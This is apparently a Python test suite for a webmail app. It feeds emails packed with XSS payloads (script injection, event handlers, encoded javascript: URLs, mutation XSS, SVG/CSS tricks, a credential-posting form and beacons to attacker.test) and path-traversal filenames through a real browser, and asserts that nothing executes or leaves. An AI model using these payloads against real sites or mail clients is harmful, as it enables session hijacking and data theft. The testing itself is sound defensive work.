"""An XSS corpus of mails rendered in real headless Chromium: no script runs, nothing leaves.

Every payload, if it ever ran, would show itself four ways: a dialog (alert), a console
message "XSS-RAN-…", `window.__xss` / `top.__xss`, and a request to attacker.test. The
control test at the end renders the same payloads unsanitised to prove the watchers see
them when they do run.
"""
from __future__ import annotations

import base64
import struct
import zlib
from email.message import EmailMessage

import pytest
from django.urls import reverse

from . import mailfactory
from .browser import chromium, open_context, screenshot  # noqa: F401  (fixture)

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def js(tag: str) -> str:
    return (f"alert('XSS-RAN-{tag}');console.log('XSS-RAN-{tag}');window.__xss='{tag}';"
            f"try{{top.__xss='{tag}'}}catch(e){{}};new Image().src='http://attacker.test/{tag}'")


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG_SCRIPT = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('svgdata')}\"><script>{js('svgdata2')}</script></svg>"

PAYLOADS: dict[str, str] = {
    "script-tags": f"<p>hello</p><script>{js('script')}</script><SCRIPT SRC=http://attacker.test/x.js></SCRIPT>"
                   f"<scr<script>ipt>{js('split')}</script><<script>script>{js('dbl')}</script>",
    "event-handlers": f"<img src=x onerror=\"{js('onerror')}\"><body onload=\"{js('onload')}\">"
                      f"<div onmouseover=\"{js('mouse')}\">hover</div><details open ontoggle=\"{js('toggle')}\"><summary>s</summary></details>"
                      f"<input autofocus onfocus=\"{js('focus')}\"><video><source onerror=\"{js('source')}\"></video>",
    "javascript-urls": f"<a id=l1 href=\"javascript:{js('href')}\">click-1</a>"
                       f"<a id=l2 href=\"JaVaScRiPt:{js('case')}\">click-2</a>"
                       f"<a id=l3 href=\"jav&#x09;ascript:{js('tab')}\">click-3</a>"
                       f"<a id=l4 href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js('ent')}\">click-4</a>"
                       f"<a id=l5 href=\" &#14; javascript:{js('ctl')}\">click-5</a>"
                       f"<iframe src=\"javascript:{js('iframe')}\"></iframe><IMG SRC=\"javascript:{js('imgsrc')}\">"
                       f"<form action=\"javascript:{js('form')}\"><button id=b1>click-6</button></form>",
    "data-urls": f"<a id=d1 href=\"data:text/html;base64,{b64('<script>' + js('datahref') + '</script>')}\">click-7</a>"
                 f"<img src=\"data:image/svg+xml;base64,{b64(SVG_SCRIPT)}\">"
                 f"<object data=\"data:text/html;base64,{b64('<script>' + js('obj') + '</script>')}\"></object>"
                 f"<embed src=\"data:image/svg+xml;base64,{b64(SVG_SCRIPT)}\">"
                 f"<iframe srcdoc=\"&lt;script&gt;{js('srcdoc')}&lt;/script&gt;\"></iframe>"
                 "<img alt=ok-data src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\">",
    "svg": f"<svg onload=\"{js('svgonload')}\"><script>{js('svgscript')}</script>"
           f"<animate onbegin=\"{js('animate')}\" attributeName=x dur=1s></animate>"
           f"<a xlink:href=\"javascript:{js('svglink')}\"><text x=20 y=20>click-8</text></a>"
           f"<foreignObject><img src=x onerror=\"{js('foreign')}\"></foreignObject></svg>"
           f"<math><mtext><table><mglyph><style><img src=x onerror=\"{js('mxss')}\">",
    "css": f"<div style=\"width: expression({js('expr')}); color: red\">css-expr</div>"
           f"<div style=\"background-image: url('javascript:{js('cssjs')}')\">css-js</div>"
           "<div style=\"background: url(http://attacker.test/css-bg)\">css-remote</div>"
           "<div style=\"background:&#117;&#114;&#108;(http://attacker.test/css-ent)\">css-ent</div>"
           "<div style=\"background:u\\72l(http://attacker.test/css-esc)\">css-esc</div>"
           "<style>@import 'http://attacker.test/import.css'; body{background:url(http://attacker.test/style-bg)}</style>"
           "<link rel=stylesheet href=\"http://attacker.test/link.css\">"
           "<div style=\"-moz-binding:url(http://attacker.test/xbl)\">xbl</div>",
    "meta-and-base": "<meta http-equiv=\"refresh\" content=\"0;url=http://attacker.test/refresh\">"
                     f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js('refreshjs')}\">"
                     "<base href=\"http://attacker.test/\"><img src=\"relative.png\"><a id=r1 href=\"relative\">click-9</a>",
    "remote-resources": "<img src=\"http://attacker.test/pixel.gif\"><img src=\"//attacker.test/proto-rel.gif\">"
                        "<img srcset=\"http://attacker.test/srcset.png 1x\"><table background=\"http://attacker.test/bg.png\"><tr><td>t</td></tr></table>"
                        "<video poster=\"http://attacker.test/poster.png\"></video><input type=image src=\"http://attacker.test/input.png\">"
                        "<audio src=\"http://attacker.test/a.mp3\" autoplay></audio><picture><source srcset=\"http://attacker.test/pic.png\"><img></picture>",
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror=\\\"{js('noscript')}\\\">\"></noscript>"
                f"<textarea><img src=x onerror=\"{js('textarea')}\"></textarea>"
                f"<title><img src=x onerror=\"{js('title')}\"></title>"
                f"<!--><img src=x onerror=\"{js('comment')}\">-->"
                f"<xmp><img src=x onerror=\"{js('xmp')}\"></xmp>",
    "forms-frames-objects": "<form id=f1 action=\"http://attacker.test/steal\" method=post><input name=pw value=secret>"
                            "<button id=b2>click-10</button></form>"
                            "<button form=f1 formaction=\"http://attacker.test/formaction\">click-11</button>"
                            "<isindex action=\"http://attacker.test/isindex\">"
                            "<iframe src=\"http://attacker.test/frame\"></iframe>"
                            f"<iframe src=\"data:text/html,<script>{js('iframedata')}</script>\"></iframe>"
                            "<object data=\"http://attacker.test/object\" type=text/html></object>"
                            "<embed src=\"http://attacker.test/embed\" type=text/html>"
                            "<applet code=\"X.class\" codebase=\"http://attacker.test/applet\"></applet>"
                            "<frameset><frame src=\"http://attacker.test/frameset\"></frameset>"
                            "<portal src=\"http://attacker.test/portal\"></portal>"
                            "<a id=p1 href=\"mailto:a@b.example\" ping=\"http://attacker.test/ping\">click-12</a>",
    "encoded-variants": f"<a id=e1 href=\"javascript&colon;{js('colon')}\">click-13</a>"
                        f"<a id=e2 href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js('hexnosemi')}\">click-14</a>"
                        f"<a id=e3 href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{js('decpad')}\">click-15</a>"
                        f"<a id=e4 href=\"java\nscript:{js('newline')}\">click-16</a>"
                        f"<img/src=x/onerror=\"{js('slash')}\"><svg/onload=\"{js('svgslash')}\">"
                        f"<ScRiPt>{js('mixedcase')}</sCrIpT>"
                        f"<IMG \"\"\"><SCRIPT>{js('quotes')}</SCRIPT>\">"
                        "<img src=\"h&#x74;tp://attacker.test/entity-scheme\">"
                        "<img src=\"HTTP://ATTACKER.TEST/upper\">"
                        "<img src=\"  http://attacker.test/spaces\">"
                        "<img src=\"\\\\attacker.test\\unc.png\"><img src=\"/\\attacker.test/slash-backslash.png\">"
                        "<img src=\"https:attacker.test/no-slashes\">"
                        "<div style=\"background:url(&#34;http://attacker.test/quot&#34;)\">q</div>"
                        "<div style=\"background:\\75 rl(http://attacker.test/esc2)\">e2</div>"
                        "<div style=\"background:u/**/rl(http://attacker.test/comment)\">c</div>"
                        "%3Cscript%3Ealert(1)%3C/script%3E",
    "style-blocks-and-links": "<style>@font-face{font-family:x;src:url(http://attacker.test/font.woff)}"
                              ".a{background:url(http://attacker.test/class-bg)} p{font-family:x}</style>"
                              "<div class=a><p>styled</p></div>"
                              "<div style=\"cursor:url(http://attacker.test/cursor),auto\">cur</div>"
                              "<div style=\"border-image:url(http://attacker.test/border) 30\">bi</div>"
                              "<div style=\"list-style-image:url(http://attacker.test/li)\">li</div>"
                              "<div style=\"background:image-set('http://attacker.test/imgset.png' 1x)\">is</div>"
                              "<div style=\"content:url(http://attacker.test/content)\">ct</div>"
                              "<div style=\"font: 12px x; background-image: url(data:image/svg+xml;base64,"
                              + b64(SVG_SCRIPT) + ")\">svgbg</div>"
                              "<link rel=prefetch href=\"http://attacker.test/prefetch\">"
                              "<link rel=preload as=image href=\"http://attacker.test/preload\">"
                              "<link rel=icon href=\"http://attacker.test/favicon.ico\">"
                              "<link rel=dns-prefetch href=\"//attacker.test\">"
                              "<meta http-equiv=\"set-cookie\" content=\"sessionid=attacker\">"
                              "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">"
                              "<body background=\"http://attacker.test/body-bg\"><td background=\"http://attacker.test/td-bg\">",
    "svg-extras": "<svg><image href=\"http://attacker.test/svg-image\"/>"
                  f"<use href=\"data:image/svg+xml;base64,{b64(SVG_SCRIPT)}#x\"/>"
                  f"<set attributeName=onload to=\"{js('svgset')}\"/>"
                  "<feImage href=\"http://attacker.test/feimage\"/></svg>"
                  "<video src=\"http://attacker.test/video\" autoplay><track src=\"http://attacker.test/track\"></video>",
}


def payload_mail(name: str, html: str, *, transfer: str = "quoted-printable", charset: str = "utf-8") -> bytes:
    """A mail whose HTML part carries the payload; subject, sender and text carry some too."""
    msg = EmailMessage()
    msg["From"] = f"\"<img src=x onerror={js('from')}>\" <evil@attacker.test>"
    msg["To"] = "victim@example.com"
    msg["Subject"] = f"{name} <script>{js('subject')}</script>"
    msg["Date"] = "Tue, 03 Nov 2026 10:00:00 +0000"
    msg.set_content(f"text body <script>{js('text')}</script>")
    msg.add_alternative(html, subtype="html", charset=charset, cte=transfer if charset != "utf-7" else "base64")
    return msg.as_bytes()


def tiny_png() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    raw = b"\x00\xff\x00\x00" * 1  # one red pixel, filter byte 0
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def attachment_mail() -> bytes:
    msg = EmailMessage()
    msg["From"] = "Mallory <m@attacker.test>"
    msg["Subject"] = "malicious attachment names"
    msg.set_content("see attachments")
    msg.add_alternative('<p>inline: <img src="cid:pic@x" alt="pic"> <img src="cid:evil-svg@x"></p>', subtype="html")
    msg.get_body(("html",)).add_related(tiny_png(), maintype="image", subtype="png", cid="<pic@x>")
    msg.get_body(("html",)).add_related(SVG_SCRIPT.encode(), maintype="image", subtype="svg+xml", cid="<evil-svg@x>")
    for name, ctype, data in [
        (f'"><script>{js("attname")}</script>.html', "text/html", f"<script>{js('attbody')}</script>".encode()),
        ("../../etc/passwd", "application/octet-stream", b"root:x:0:0"),
        (f"<img src=x onerror=\"{js('attimg')}\">.png", "image/png", tiny_png()),
        ("..\\..\\windows\\win.ini", "text/plain", b"[x]"),
    ]:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def assert_clean(page, watch, label: str) -> None:
    ran = [c for c in watch.console if "XSS-RAN" in c]
    assert watch.dialogs == [], f"{label}: dialogs {watch.dialogs}"
    assert ran == [], f"{label}: console {ran}"
    assert watch.outside == [], f"{label}: requests left for {watch.outside}"
    assert all(watch.is_local(u) for u in watch.requests), f"{label}: {watch.requests}"
    checked = []
    for frame in page.frames:
        try:
            marker = frame.evaluate("() => window.__xss")
        except Exception:  # a frame detached by a (blocked) navigation: nothing to read there
            continue
        checked.append(frame.url)
        assert marker is None, f"{label}: window.__xss={marker!r} in {frame.url}"
    # The marker check really ran in the page and in the message frame (DevTools evaluation
    # works in sandboxed frames), so a silent failure cannot pass for "no script ran".
    assert page.main_frame.url in checked, f"{label}: could not inspect the page"
    if "/messages/" in page.url and "/body/" not in page.url and page.locator("iframe.body-frame").count():
        assert any("/body/" in url for url in checked), f"{label}: could not inspect the message frame"


def click_all_links(frame) -> None:
    for handle in frame.query_selector_all("a, button"):
        try:
            handle.click(timeout=1000, no_wait_after=True)
        except Exception:
            pass  # hidden or detached after a (blocked) navigation attempt


def render(chromium, live_server, user, message, *, name: str, remote: bool = False):
    context, watch = open_context(chromium, live_server, user)
    page = context.new_page()
    url = live_server.url + reverse("messages:detail", args=[message.pk]) + ("?remote=1" if remote else "")
    response = page.goto(url, wait_until="load")
    assert response.status == 200
    page.wait_for_timeout(300)  # let timers, animations and autofocus fire
    return context, page, watch


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_payload_never_runs_and_nothing_leaves(chromium, live_server, tenants, name):
    variants = [("qp", "quoted-printable", "utf-8"), ("b64", "base64", "utf-8"), ("utf7", "base64", "utf-7")]
    for suffix, transfer, charset in variants:
        raw = payload_mail(name, PAYLOADS[name], transfer=transfer, charset=charset)
        message = mailfactory.store(connection=tenants["conn_a"], raw=raw)
        assert message.html_body, "the payload must reach the HTML body"
        context, page, watch = render(chromium, live_server, tenants["alice"], message, name=name)
        frame = next(f for f in page.frames if "/body/" in f.url)
        click_all_links(frame)
        page.wait_for_timeout(200)
        # Text carrying markup is shown as text, not interpreted.
        assert "<script>" in page.inner_text("h1")
        screenshot(page, f"xss-{name}-{suffix}")
        assert_clean(page, watch, f"{name}/{suffix}")
        # The frame document opened directly (top level) is sandboxed by its own CSP.
        direct = context.new_page()
        direct.goto(live_server.url + reverse("messages:body", args=[message.pk]), wait_until="load")
        click_all_links(direct)
        direct.wait_for_timeout(200)
        assert_clean(direct, watch, f"{name}/{suffix} direct")
        context.close()


def test_attachment_names_source_and_inline_images(chromium, live_server, tenants):
    message = mailfactory.store(connection=tenants["conn_a"], raw=attachment_mail())
    # The parser already trims path parts; store the hostile names verbatim anyway, as an
    # older parser or an import might have, to prove the page needs no help.
    hostile = {"text/html": f'"><script>{js("attname")}</script>.html',
               "application/octet-stream": "../../etc/passwd"}
    for att in message.attachments.filter(content_type__in=hostile):
        att.filename = hostile[att.content_type]
        att.save()
    context, page, watch = render(chromium, live_server, tenants["alice"], message, name="attachments")
    names = page.locator(".attachments a").all_inner_texts()
    assert hostile["text/html"] in names and "../../etc/passwd" in names, names
    with page.expect_download() as download:
        page.locator(".attachments a", has_text="attname").click()
    assert download.value.suggested_filename == "script_.html"
    # The cid: PNG loads from the stored attachment inside the sandboxed frame (session kept);
    # the SVG one is not served inline.
    inline_url = reverse("messages:inline", args=[message.pk, message.attachments.get(content_id__icontains="pic@x").pk])
    ok = [r for r in watch.responses if r[0].endswith(inline_url)]
    assert ok and ok[0][1] == 200 and ok[0][2] == "image/png", watch.responses
    frame = next(f for f in page.frames if "/body/" in f.url)
    assert frame.locator("img[alt=pic]").evaluate("img => img.naturalWidth") == 1
    screenshot(page, "xss-attachment-names")
    assert_clean(page, watch, "attachments")
    # View source opened in the browser shows markup as text and runs nothing.
    source = context.new_page()
    source.goto(live_server.url + reverse("messages:source", args=[message.pk]), wait_until="load")
    # "<m@attacker.test>" would vanish as a tag if the source were interpreted as HTML.
    assert "From: Mallory <m@attacker.test>" in source.inner_text("body")
    assert_clean(source, watch, "source")
    context.close()


def test_remote_switch_allows_remote_images_only(chromium, live_server, tenants):
    """With "load remote images" on, the plain <img> is requested (and caught here); CSS,
    srcset, posters and the rest stay blocked."""
    message = mailfactory.store(connection=tenants["conn_a"], raw=payload_mail("remote", PAYLOADS["remote-resources"] + PAYLOADS["css"]))
    context, page, watch = render(chromium, live_server, tenants["alice"], message, name="remote-off")
    assert watch.outside == [] and "remote images blocked" in page.inner_text("main")
    context.close()
    context, page, watch = render(chromium, live_server, tenants["alice"], message, name="remote-on", remote=True)
    screenshot(page, "remote-images-on")
    assert sorted(watch.outside) == ["http://attacker.test/pixel.gif"], watch.outside
    assert watch.dialogs == [] and not [c for c in watch.console if "XSS-RAN" in c]
    context.close()


def test_watchers_see_payloads_that_do_run(chromium, live_server):
    """Control: the same payloads without the sanitiser and sandbox are caught by the watchers."""
    context, watch = open_context(chromium, live_server)
    page = context.new_page()  # about:blank: no sanitiser, no sandbox, no CSP
    page.set_content("<html><body>" + PAYLOADS["event-handlers"] + PAYLOADS["script-tags"] + "</body></html>")
    page.wait_for_timeout(300)
    assert watch.dialogs and any("XSS-RAN" in c for c in watch.console)
    assert page.evaluate("() => window.__xss") is not None
    assert any("attacker.test" in u for u in watch.outside)
    context.close()


def test_pages_respect_their_own_policy_on_desktop_and_phone(chromium, live_server, tenants):
    """A normal mail: list and detail render with their stylesheet and without a single CSP
    violation (which Chromium reports on the console), at desktop and phone widths."""
    for i in range(3):
        mailfactory.store(connection=tenants["conn_a"], raw=mailfactory.build(
            subject=f"Quarterly numbers {i}", sender="Jörg Müller <jorg@example.com>",
            text="Hello,\nthe numbers are attached.", html="<p>Hello,</p><p><b>the numbers</b> are attached.</p>",
            attachments=[("numbers.csv", "text/csv", b"a,b\n1,2\n")] if i == 1 else []))
    message = mailfactory.store(connection=tenants["conn_a"], raw=mailfactory.build(
        subject="Newsletter", html='<p>News <img src="https://cdn.example/banner.png" alt="banner"></p>'))
    context, watch = open_context(chromium, live_server, tenants["alice"])
    page = context.new_page()
    for width, label in ((1100, "desktop"), (390, "phone")):
        page.set_viewport_size({"width": width, "height": 800})
        page.goto(live_server.url + reverse("messages:list"), wait_until="load")
        assert page.locator("table.messages tbody tr").count() == 4
        # The stylesheet applied (the top bar is dark), and the table is readable.
        assert page.locator(".topbar").evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(36, 41, 47)"
        screenshot(page, f"list-{label}")
        page.goto(live_server.url + reverse("messages:detail", args=[message.pk]), wait_until="load")
        screenshot(page, f"detail-{label}")
    assert not [c for c in watch.console if "Content Security Policy" in c or "Refused" in c], watch.console
    assert watch.outside == [] and watch.dialogs == []
    context.close()


def encoded_headers_mail() -> bytes:
    """Markup hidden in RFC 2047 headers, an RFC 2231 file name, a charset name (it ends up
    in the parse problems), and an "image/png" inline part that is really HTML with script."""
    def word(text: str) -> str:
        return f"=?utf-8?b?{b64(text)}?="

    fake_png = f"<html><body><script>{js('fakepng')}</script><img src=x onerror=\"{js('fakepng2')}\"></body></html>"
    svg_name = "%3Csvg%20onload%3D%22alert(1)%22%3E.svg"
    return (
        f"From: {word('<svg onload=' + js('from2047') + '>')} <evil@attacker.test>\r\n"
        "To: victim@example.com\r\n"
        f"Subject: {word('<img src=x onerror=' + js('subj2047') + '>')}\r\n"
        "Date: Tue, 03 Nov 2026 10:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\n"
        f"Content-Type: text/plain; charset=\"<img src=x onerror={js('charset')}>\"\r\n\r\n"
        "text with a hostile charset name\r\n"
        "--b1\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        '<p>hello <img src="cid:fake-png@x" alt="fake"></p>\r\n'
        "--b1\r\n"
        "Content-Type: image/png\r\nContent-ID: <fake-png@x>\r\nContent-Disposition: inline\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{b64(fake_png)}\r\n"
        "--b1\r\n"
        "Content-Type: image/svg+xml\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{svg_name}\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{b64(SVG_SCRIPT)}\r\n"
        "--b1--\r\n"
    ).encode()


def test_encoded_headers_names_and_lying_inline_parts(chromium, live_server, tenants):
    message = mailfactory.store(connection=tenants["conn_a"], raw=encoded_headers_mail())
    context, page, watch = render(chromium, live_server, tenants["alice"], message, name="encoded-headers")
    # Decoded, and shown as text.
    assert page.inner_text("h1").startswith("<img src=x onerror=")
    assert "<svg onload=" in page.inner_text("dl.headers")
    assert "<svg onload=\"alert(1)\">.svg" in page.locator(".attachments").inner_text()
    # The unknown charset's name is quoted in the parse problems: as text, never as markup.
    assert "<img src=x onerror=" in page.locator(".problems").inner_text()
    assert "<img" not in page.locator(".problems").inner_html()
    screenshot(page, "xss-encoded-headers")
    assert_clean(page, watch, "encoded headers")
    # The lying "image/png" opened directly: served as image/png, nosniff, sandboxed; nothing runs.
    fake = message.attachments.get(content_id__icontains="fake-png")
    direct = context.new_page()
    response = direct.goto(live_server.url + reverse("messages:inline", args=[message.pk, fake.pk]), wait_until="load")
    assert response.headers["content-type"] == "image/png"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in response.headers["content-security-policy"]
    direct.wait_for_timeout(200)
    assert_clean(direct, watch, "inline part opened directly")
    # The SVG attachment downloads under a safe name; never shown.
    with page.expect_download() as download:
        page.locator(".attachments a", has_text="svg onload").click()
    assert "<" not in download.value.suggested_filename and download.value.suggested_filename.endswith(".svg")
    assert_clean(page, watch, "svg download")
    context.close()
